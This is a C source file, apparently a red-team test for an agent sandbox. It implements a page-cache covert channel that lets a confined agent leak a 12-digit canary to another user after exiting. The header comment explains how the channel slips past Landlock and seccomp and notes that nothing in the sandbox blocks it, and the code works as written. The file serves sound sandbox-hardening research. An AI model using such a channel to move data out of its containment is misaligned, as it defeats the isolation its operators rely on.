// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* cache_residency - page-cache residency of files OUTSIDE the workspace that every agent may
 * read (red team addition). Whether a file's page is in the page cache is host-wide state that
 * any process which can open the file reads, and an agent of any uid sets it both ways through
 * a read-only fd: a read (or readahead / POSIX_FADV_WILLNEED) brings the page in, and
 * posix_fadvise(POSIX_FADV_DONTNEED) drops it again (clean, unmapped pages; no ownership or
 * write permission needed). Landlock judges only the read-only open, which the system read rules
 * allow (/usr, /etc, ...); the seccomp filter allows read, fadvise64 and readahead. Unlike
 * atime_read (once per file per day, closed by noatime) the bit is rewritable at syscall rate
 * and stays readable after the agent has exited, with no synchronisation.
 * The reader: cachestat(2) and mincore(2) are refused to a uid that neither owns nor may write
 * the file (Linux >= 6.14), but preadv2(RWF_NOWAIT) is not: it returns the byte when the page
 * is cached and EAGAIN when it is not (with POSIX_FADV_RANDOM on the reader's fd the probe
 * brings in only the page it probes).
 * The orchestrator makes 48 root-owned 0644 one-byte files in /usr/local/share/mnc-atk-pc-PID
 * (atk_sysfiles), written back and dropped from the cache before the launch; no real system
 * file is touched. After its taint the agent stores the canary's 12 hex digits, one bit per
 * file: read for 1, POSIX_FADV_DONTNEED for 0. It first measures the rate at which it can flip
 * one file's bit (a set and a clear per round) and notes it.
 * Verifier: uid 65534, after the agent exited, probes each file once with preadv2(RWF_NOWAIT)
 * and decodes the 12 digits.
 * Blocks it: nothing in mnc that we know of (narrower Landlock read rules would shrink the set
 * of files; refusing fadvise64/readahead would leave a one-way bit per page until memory
 * pressure evicts it). Flagged ATK_COVERT: a storage side channel not in docs/threat-model.md. */

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>

#include "atk_variants.h"

/* the one-byte file, written back and dropped from the page cache */
static int drop(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    int e = 0;
    if (fsync(fd) < 0)
        e = errno;
    int r = posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
    if (!e && r)
        e = r;
    close(fd);
    errno = e;
    return e ? -1 : 0;
}

/* 1: read the page in; 0: drop it */
static int set_bit(const char *path, unsigned v)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    int rc = 0, e = 0;
    if (v) {
        char b;
        if (pread(fd, &b, 1, 0) != 1) {
            rc = -1;
            e = errno ? errno : EIO;
        }
    } else {
        int r = posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
        if (r) {
            rc = -1;
            e = r;
        }
    }
    close(fd);
    errno = e;
    return rc;
}

/* uid 65534's probe: 1 cached, 0 not, -1 error */
static int probe(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    (void)posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);
    char b;
    struct iovec v = {&b, 1};
    ssize_t r = preadv2(fd, &v, 1, 0, RWF_NOWAIT);
    int e = errno;
    close(fd);
    if (r == 1)
        return 1;
    return r < 0 && e == EAGAIN ? 0 : -1;
}

static const struct atkv_meta M = {"pc",    1,    "read / POSIX_FADV_DONTNEED", "the page-cache residency", drop,
                                   set_bit, probe};

static int prepare(struct atk_ctx *c) { return atkv_meta_prepare(c, &M); }

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int agent(struct atk_ctx *c)
{
    /* the rate: one file's bit set and cleared per round, through one held read-only fd */
    const char *d = atk_arg(c, "metadir");
    if (d) {
        char p[200];
        atk_sysfile(p, sizeof(p), d, 0);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            const int rounds = 20000;
            char b;
            int bad = 0;
            double t0 = now_s();
            for (int i = 0; i < rounds; i++) {
                bad |= pread(fd, &b, 1, 0) != 1;
                bad |= posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED) != 0;
            }
            double dt = now_s() - t0;
            close(fd);
            atk_note(c, "flip rate: %d set+clear rounds in %.3f s = %.0f bit writes/s%s", rounds, dt, 2.0 * rounds / dt,
                     bad ? " (some failed)" : "");
        } else {
            atk_note(c, "open %s: %s", p, atk_errname(errno));
        }
    }
    return atkv_meta_agent(c, &M);
}

/* uid 65534: one probe per file (a probe brings the page in), then the 12 digits */
static int pc_rd(struct atk_ctx *c, char *out, size_t n)
{
    char bits[49], got[32] = "mk";
    for (int i = 0; i < 48; i++) {
        char p[200];
        atk_sysfile(p, sizeof(p), atk_arg(c, "metadir"), i);
        int x = probe(p);
        bits[i] = x < 0 ? 'E' : (char)('0' + x);
    }
    bits[48] = 0;
    for (int i = 0; i < 12; i++) {
        unsigned v = 0;
        for (int j = 0; j < 4; j++)
            v = v << 1 | (bits[4 * i + j] == '1');
        got[2 + i] = "0123456789abcdef"[v];
    }
    got[14] = 0;
    if (strcmp(got, c->canary) != 0) {
        snprintf(out, n, "probed bits %s (decodes to %s)", bits, got);
        return 0;
    }
    snprintf(out, n, "uid 65534 decoded the canary from the page-cache residency of 48 files in %s (bits %s)",
             atk_arg(c, "metadir"), bits);
    return 1;
}

static void verify(struct atk_ctx *c)
{
    char out[800] = "";
    if (!c->slot[0] || !atk_arg(c, "metadir"))
        return;
    if (atk_as_uid(c, ATK_NOBODY, pc_rd, out, sizeof(out)) == 1) {
        atk_evidence(c, "%s", out);
    } else {
        size_t l = strlen(c->notes);
        snprintf(c->notes + l, sizeof(c->notes) - l, "; verifier: %s", out);
    }
}
static void cleanup(struct atk_ctx *c) { atkv_meta_cleanup(c, &M); }

static const struct atk A = {"cache_residency",
                             "page-cache residency of readable files outside the workspace (read = 1, "
                             "POSIX_FADV_DONTNEED = 0), probed with preadv2(RWF_NOWAIT)",
                             ATK_COVERT | ATK_OPEN,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             cleanup};
ATK_MAIN(A)
